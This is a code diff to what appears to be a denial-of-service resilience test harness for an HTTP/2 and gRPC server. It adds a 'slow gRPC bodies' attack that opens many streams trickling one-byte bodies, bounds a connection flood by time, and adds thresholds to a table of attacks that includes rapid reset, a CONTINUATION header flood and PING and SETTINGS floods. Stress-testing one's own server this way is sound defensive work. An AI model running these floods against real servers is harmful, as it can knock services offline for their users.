@@ -96,7 +96,9 @@ int64_t PaddedNumbers(const Target& target) {
 
 int64_t ManyConnections(const Target& target) {
   std::vector<std::unique_ptr<TlsClient>> open;
-  while (open.size() < 600 && !Over(target)) {
+  // All of them, however slow the machine.
+  const absl::Time until = absl::Now() + absl::Seconds(30);
+  while (open.size() < 600 && absl::Now() < until) {
     auto client = Open(target, open.size() % 2 == 0 ? "h2" : "http/1.1");
     if (client != nullptr) open.push_back(std::move(client));
   }
@@ -209,19 +211,69 @@ int64_t SlowBody(const Target& target) {
                                             {"Content-Length", "1000000"}}));
 }
 
+// Of somebody without a token.
+int64_t SlowGrpcBodiesOfNobody(const Target& target) {
+  return SlowGrpcBodies({target.address, "", target.until});
+}
+
 }  // namespace
+
+int64_t SlowGrpcBodies(const Target& target) {
+  constexpr int kAddresses = 6;
+  constexpr int kStreams = 25;
+  std::string block = h2::Block({{":method", "POST"},
+                                 {":scheme", "https"},
+                                 {":authority", kHost},
+                                 {":path", kPing},
+                                 {"content-type", "application/grpc"},
+                                 {"te", "trailers"}});
+  if (!target.authorization.empty()) block += h2::Block({{"authorization", target.authorization}});
+  struct Line {
+    std::unique_ptr<TlsClient> client;
+    uint32_t next = 1;
+  };
+  std::vector<Line> lines(kAddresses);
+  int64_t begun = 0;
+  while (!Over(target)) {
+    for (int i = 0; i < kAddresses && !Over(target); ++i) {
+      Line& line = lines[static_cast<size_t>(i)];
+      if (line.client == nullptr || line.next > 1'500) {
+        line = {TlsClient::Connect(target.address, kHost, "h2",
+                                   "127.0.0." + std::to_string(70 + i) + ":0")};
+        if (line.client == nullptr || !line.client->Write(h2::Preface(), target.until)) continue;
+      }
+      std::string frames;
+      for (int n = 0; n < kStreams; ++n, line.next += 2) {
+        frames += h2::Frame(h2::kHeaders, h2::kEndHeaders, line.next, block);
+        frames += h2::Frame(h2::kData, 0, line.next, std::string(1, '\0'));
+        // And one more byte of those before.
+        if (line.next > 2 * kStreams) {
+          frames += h2::Frame(h2::kData, 0, line.next - 2 * kStreams, std::string(1, '\0'));
+        }
+      }
+      if (!line.client->Write(frames, target.until) || !line.client->Drain()) {
+        line.client = nullptr;
+        continue;
+      }
+      begun += kStreams;
+    }
+    absl::SleepFor(std::min(absl::Milliseconds(250), target.until - absl::Now()));
+  }
+  return begun;
+}
 
 const std::vector<Attack>& Attacks() {
   static const std::vector<Attack> attacks = {
-      {"rapid reset", "resets", RapidReset},
-      {"header flood (CONTINUATION)", "KiB", HeaderFlood},
-      {"padded numbers", "KiB", PaddedNumbers},
-      {"600 connections, 256 files", "connections", ManyConnections},
-      {"packed messages", "MiB unpacked", PackedMessages},
-      {"PING flood", "frames", PingFlood},
-      {"SETTINGS flood", "frames", SettingsFlood},
-      {"slow headers", "connections", SlowHeaders},
-      {"slow bodies", "connections", SlowBody},
+      {"rapid reset", "resets", RapidReset, 0, 2'000},
+      {"header flood (CONTINUATION)", "KiB", HeaderFlood, 0, 5'000},
+      {"padded numbers", "KiB", PaddedNumbers, 0, 5'000},
+      {"600 connections, 256 files", "connections", ManyConnections, 600},
+      {"packed messages", "MiB unpacked", PackedMessages, 0, 500},
+      {"PING flood", "frames", PingFlood, 0, 20'000},
+      {"SETTINGS flood", "frames", SettingsFlood, 0, 20'000},
+      {"slow headers", "connections", SlowHeaders, 150},
+      {"slow bodies", "connections", SlowBody, 150},
+      {"slow gRPC bodies", "calls", SlowGrpcBodiesOfNobody, 150, 50},
   };
   return attacks;
 }
